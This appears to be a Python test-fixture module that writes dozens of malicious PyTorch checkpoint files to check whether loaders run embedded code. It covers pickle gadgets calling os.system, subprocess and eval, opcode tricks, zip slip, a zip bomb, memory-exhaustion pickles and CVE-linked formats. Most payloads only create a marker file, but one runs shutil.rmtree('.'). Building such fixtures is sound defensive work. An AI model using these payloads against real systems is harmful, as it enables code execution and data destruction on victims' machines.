"""Files that would run code, write, or use up memory, if whoever reads them lets them. All leave a mark.

Each is what is known of attacks on readers of PyTorch checkpoints: gadgets in a pickle, opcodes that call,
kinds of files that `torch.load` hands on to other readers, and what its reader of weights alone once let
through (CVE-2025-32434, CVE-2026-24747).
"""

import io
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # how files of torch before 1.6 begin
Maker = Callable[[str], bytes]


def touch(mark: str) -> str:
    return f"touch {mark}"


def write(mark: str) -> str:
    return f"open({mark!r}, 'w').close()"


# ── pickles ──────────────────────────────────────────────────────────────────────────────────────


def pushed(*values: object) -> bytes:
    """Opcodes that leave a tuple of values on the stack."""
    return pickle.dumps(values, 2)[2:-1]


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def calling(module: str, name: str, *arguments: object) -> bytes:
    """Opcodes that leave what a function answers on the stack."""
    return named(module, name) + pushed(*arguments) + b"R"


def whole(opcodes: bytes) -> bytes:
    return b"\x80\x02" + opcodes + b"."


def by_name(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def gadget(module: str, name: str, *arguments: Callable[[str], object]) -> Maker:
    """A function that is called while the pickle is read; what depends on the mark is made of it."""

    def make(mark: str) -> bytes:
        return zipped(whole(calling(module, name, *(argument(mark) for argument in arguments))))

    return make


def chained(mark: str) -> bytes:
    """getattr(__import__("os"), "system")(…), one call at a time."""
    imported = calling("builtins", "__import__", "os")
    system = named("builtins", "getattr") + b"(" + imported + b"X\x06\x00\x00\x00systemtR"
    return zipped(whole(system + pushed(touch(mark)) + b"R"))


def nested(mark: str) -> bytes:
    inner = whole(calling("posix", "system", touch(mark)))
    return zipped(whole(calling("pickle", "loads", inner)))


def stack_global(mark: str) -> bytes:
    return zipped(b"\x80\x04" + by_name("posix") + by_name("system") + b"\x93" + pushed(touch(mark)) + b"R.")


def dotted(mark: str) -> bytes:
    """A name with dots, below a module that may be named."""
    found = by_name("torch.serialization") + by_name("os.system") + b"\x93"
    return zipped(b"\x80\x04" + found + pushed(touch(mark)) + b"R.")


def inst(mark: str) -> bytes:
    return zipped(f"(S'{touch(mark)}'\niposix\nsystem\n.".encode())


def obj(mark: str) -> bytes:
    return zipped(b"(" + named("posix", "system") + f"S'{touch(mark)}'\n".encode() + b"o.")


def extension(mark: str) -> bytes:
    """A code that stands for a name, if copyreg knows it."""
    return zipped(b"\x80\x02\x82\x2a" + pushed(touch(mark)) + b"R.")


def persistent(mark: str) -> bytes:
    """A persistent id that names no storage, and holds a call."""
    return zipped(whole(b"(" + calling("posix", "system", touch(mark)) + b"tQ"))


def persistent_text(mark: str) -> bytes:
    return zipped(f"P{touch(mark)}\n.".encode())


def state(mark: str) -> bytes:
    """BUILD with a state that would set what is called next."""
    built = named("collections", "OrderedDict") + b")R"
    values = b"}X\x0b\x00\x00\x00__setitem__" + named("posix", "system") + b"s"
    return zipped(whole(built + values + b"b" + f"X{chr(4)}\x00\x00\x00none".encode() + b"Ns"))


def new_object(mark: str) -> bytes:
    return zipped(whole(named("subprocess", "Popen") + pushed(["touch", mark]) + b"\x81"))


def partial(mark: str) -> bytes:
    made = named("functools", "partial") + b"(" + named("posix", "system") + b"tR"
    return zipped(whole(made + pushed(touch(mark)) + b"R"))


def object_scalar(mark: str) -> bytes:
    """A number of numpy whose type is "object" and whose bytes are a pickle."""
    inner = whole(calling("posix", "system", touch(mark)))
    kind = calling("numpy", "dtype", "O8", False, True)
    made = named("numpy._core.multiarray", "scalar") + b"(" + kind + pushed(inner)[:-1] + b"tR"
    return zipped(whole(made))


def on_tensor(mark: str) -> bytes:
    """CVE-2026-24747: an item set on a tensor in place of a dictionary writes to memory."""
    storage = b"(" + b"X\x07\x00\x00\x00storage" + named("torch", "FloatStorage")
    storage += b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ"
    tensor = named("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + b"K\x00K\x04\x85K\x01\x85\x89"
    tensor += named("collections", "OrderedDict") + b")RtR"
    return zipped(whole(tensor + b"K\x00G" + struct.pack(">d", 1.0) + b"s"), {"data/0": bytes(16)})


def too_small(mark: str) -> bytes:
    """CVE-2026-24747: a storage that is said to have more numbers than the archive holds of it."""
    storage = b"(" + b"X\x07\x00\x00\x00storage" + named("torch", "FloatStorage")
    storage += b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ" + struct.pack("<i", 2**30) + b"tQ"
    tensor = named("torch._utils", "_rebuild_tensor_v2") + b"(" + storage
    tensor += b"K\x00J" + struct.pack("<i", 2**30) + b"\x85K\x01\x85\x89"
    tensor += named("collections", "OrderedDict") + b")RtR"
    return zipped(whole(b"}X\x01\x00\x00\x00a" + tensor + b"s"), {"data/0": bytes(16)})


def long_word(mark: str) -> bytes:
    """A word that is said to have an exabyte."""
    return zipped(b"\x80\x04\x8d" + struct.pack("<Q", 2**60) + b"a.")


def laughs(mark: str) -> bytes:
    """Lists of lists of lists: a thousand bytes for 10³⁰ elements, and a call at the end."""
    body = b"]q\x00"
    for level in range(30):
        body += b"](" + b"".join(b"h" + bytes([level]) for _ in range(10)) + b"eq" + bytes([level + 1])
    return zipped(whole(body + b"0" + calling("posix", "system", touch(mark))))


# ── files ────────────────────────────────────────────────────────────────────────────────────────


def zipped(data: bytes, more: dict[str, bytes] | None = None, *, packed: bool = False) -> bytes:
    """An archive as torch writes it."""
    target = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(target, "w", kind) as archive:
        for name, content in {
            "data.pkl": data,
            "version": b"3\n",
            "byteorder": b"little",
            **(more or {}),
        }.items():
            archive.writestr(name if name.startswith(("/", "..")) else f"archive/{name}", content)
    return target.getvalue()


def slip(mark: str) -> bytes:
    """Members whose names lead out of the archive."""
    out = {f"../{mark}": b"x", f"/{Path.cwd()}/{mark}": b"x", "data/../../../escaped": b"x"}
    return zipped(whole(calling("posix", "system", touch(mark))), out)


def bomb(mark: str) -> bytes:
    """Some ten thousand bytes that become some ten million."""
    return zipped(whole(b"]" + b"N0" * 5_000_000 + calling("posix", "system", touch(mark))), packed=True)


def torchscript(mark: str) -> bytes:
    """CVE-2025-32434: an archive of a program, which `torch.load` once handed on to `torch.jit.load`."""
    program = f"def __torch__() -> None:\n  {write(mark)}\n".encode()
    call = whole(calling("posix", "system", touch(mark)))
    return zipped(call, {"constants.pkl": call, "code/__torch__.py": program})


def tar(mark: str) -> bytes:
    """CVE-2025-32434: an archive of torch before 0.1.10, which had a reader of its own."""
    target = io.BytesIO()
    call = whole(calling("posix", "system", touch(mark)))
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name in ("storages", "tensors", "sys_info", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(call)
            archive.addfile(member, io.BytesIO(call))
    return target.getvalue()


def old(mark: str) -> bytes:
    """A file of torch before 1.6: pickles, one after the other."""
    facts = {"protocol_version": PROTOCOL, "little_endian": True, "type_sizes": {}}
    head = b"".join(pickle.dumps(value, 2) for value in (MAGIC, PROTOCOL, facts))
    return head + whole(calling("posix", "system", touch(mark))) + pickle.dumps([], 2)


def old_head(mark: str) -> bytes:
    """The same, with the call where the magic number belongs."""
    return whole(calling("posix", "system", touch(mark)))


def numpy_array(mark: str) -> bytes:
    """An array of numpy that holds objects, a pickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + old_head(mark)


def script(mark: str) -> bytes:
    return f"#!{sys.executable}\n{write(mark)}\n".encode()


MALICE: dict[str, Maker] = {
    "os_system": gadget("os", "system", touch),
    "posix_system": gadget("posix", "system", touch),
    "popen": gadget("subprocess", "Popen", lambda mark: ["touch", mark]),
    "check_output": gadget("subprocess", "check_output", lambda mark: ["touch", mark]),
    "eval": gadget("builtins", "eval", lambda mark: f"open({mark!r}, 'w')"),
    "exec": gadget("__builtin__", "exec", write),
    "compile": gadget("builtins", "compile", write, lambda _: "x", lambda _: "exec"),
    "open": gadget("builtins", "open", lambda mark: mark, lambda _: "w"),
    "import_module": gadget("importlib", "import_module", lambda _: "antigravity"),
    "codecs_open": gadget("codecs", "open", lambda mark: mark, lambda _: "w"),
    "webbrowser": gadget("webbrowser", "open", lambda mark: f"file:///{mark}"),
    "pty": gadget("pty", "spawn", lambda mark: ["touch", mark]),
    "runpy": gadget("runpy", "_run_code", write, lambda _: {}),
    "code": gadget("code", "InteractiveInterpreter.runcode", write),
    "timeit": gadget("timeit", "timeit", lambda _: "pass", write),
    "pdb": gadget("pdb", "run", write),
    "shutil": gadget("shutil", "rmtree", lambda _: "."),
    "socket": gadget("socket", "create_connection", lambda _: ("127.0.0.1", 9)),
    "urlopen": gadget("urllib.request", "urlopen", lambda _: "http://127.0.0.1:9"),
    "ctypes": gadget("ctypes", "CDLL", lambda _: "libc.so.6"),
    "marshal": gadget("marshal", "loads", lambda _: b"c"),
    "attrgetter": gadget("operator", "attrgetter", lambda _: "system"),
    "numpy_load": gadget("numpy", "load", lambda mark: mark),
    "numpy_runstring": gadget("numpy.testing._private.utils", "runstring", write, lambda _: {}),
    "torch_load": gadget("torch.serialization", "load", lambda mark: mark),
    "torch_hub": gadget("torch.hub", "load", lambda mark: mark, lambda _: "model"),
    "torch_run": gadget("torch.utils.collect_env", "run", touch),
    "torch_jit": gadget("torch.jit", "load", lambda mark: mark),
    "chained": chained,
    "pickle_in_pickle": nested,
    "stack_global": stack_global,
    "dotted_name": dotted,
    "inst": inst,
    "obj": obj,
    "extension_code": extension,
    "persistent_id": persistent,
    "persistent_text": persistent_text,
    "state": state,
    "new_object": new_object,
    "partial": partial,
    "object_scalar": object_scalar,
    "item_of_a_tensor": on_tensor,
    "storage_too_small": too_small,
    "long_word": long_word,
    "laughs": laughs,
    "zip_slip": slip,
    "zip_bomb": bomb,
    "torchscript": torchscript,
    "tar": tar,
    "old_format": old,
    "old_head": old_head,
    "numpy_array": numpy_array,
    "script": script,
}


def write_all(folder: Path) -> Iterator[str]:
    """Write the files; each leaves `ran-NAME` in the folder where it is read, if it runs."""
    for name, make in MALICE.items():
        (folder / f"{name}.pth").write_bytes(make(f"ran-{name}"))
        yield name
